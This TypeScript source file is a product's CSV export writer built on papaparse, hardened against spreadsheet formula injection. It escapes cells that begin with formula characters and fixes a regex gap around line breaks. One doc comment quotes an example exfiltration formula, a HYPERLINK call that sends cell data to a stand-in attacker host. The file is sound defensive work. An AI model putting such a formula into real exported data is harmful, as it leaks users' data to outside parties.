import Papa from "papaparse";

/**
 * A cell starting with one of these is read as a formula by spreadsheet programs
 * (`=HYPERLINK("http://evil.example/?leak="&A2, …)` from an asset name): OWASP's list.
 */
export const CSV_FORMULA_TRIGGERS = ["=", "+", "-", "@", "\t", "\r"] as const;

/**
 * papaparse's `escapeFormulae: true` is `/^[=+\-@\t\r].*$/`, which fails on a text with a
 * line break after the formula (`.` does not match "\n" and `$` is the end of the text),
 * so `=HYPERLINK(…)\nx` slipped through. This tests only the first character, after any
 * single quotes: `'=x` is written `''=x`, so the import (core `unescapeFormulaCell`) takes
 * exactly one quote off every escaped cell and reads back what the user had.
 */
const FORMULA_START = /^'*[=+\-@\t\r]/;

export type CsvCell = string | number | boolean | Date | null | undefined;

/** What papaparse quotes a cell for (its BAD_DELIMITERS and the delimiter): line breaks, quotes, a byte order mark, commas. */
const NEEDS_QUOTES = /[\r\n"\uFEFF,]/;
const QUOTES = /"/g;

/**
 * One cell exactly as `writeCsv` writes it (papaparse's `safe` with the options below): empty
 * for null, a Date as its ISO text, a text cell starting with a formula character prefixed
 * with a single quote and quoted, quotes doubled, and quotes around a cell with a comma,
 * quote, line break or a space at either end. For writers that build a file a line at a
 * time (the server's streamed report export, issue 23): papaparse's per-cell checks were a
 * third of that export's CPU. Tested against `writeCsv` on generated cells.
 */
export function csvCell(value: CsvCell): string {
  if (value === null || value === undefined) return "";
  if (value instanceof Date) return Number.isNaN(value.getTime()) ? "" : value.toISOString();
  let text = String(value);
  let quote = false;
  if (typeof value === "string" && FORMULA_START.test(text)) {
    text = `'${text}`;
    quote = true;
  }
  if (text.includes('"')) {
    text = text.replace(QUOTES, '""');
    quote = true;
  }
  if (quote || NEEDS_QUOTES.test(text) || text.startsWith(" ") || text.endsWith(" ")) return `"${text}"`;
  return text;
}

/** One line of cells as `writeCsv` writes it, without the line break. */
export function csvLine(cells: readonly CsvCell[]): string {
  let line = "";
  for (let i = 0; i < cells.length; i++) line += i === 0 ? csvCell(cells[i]) : `,${csvCell(cells[i])}`;
  return line;
}

/**
 * The one CSV writer of the product (report, snapshot and form-template exports): papaparse
 * quotes commas, quotes and line breaks, and prefixes a text cell (header included) that
 * starts with a formula character with a single quote, so it stays text. Numbers are written
 * as they are (-5 stays a number). A test checks that nothing else calls `unparse`.
 */
export function writeCsv(
  header: readonly string[],
  rows: readonly (readonly CsvCell[])[],
  /** `false`: the rows only, for a file written a part at a time (the header went with the first part). */
  withHeader = true,
): string {
  return Papa.unparse(
    { fields: [...header], data: rows.map((r) => [...r]) },
    { escapeFormulae: FORMULA_START, newline: "\r\n", quotes: false, header: withHeader },
  );
}
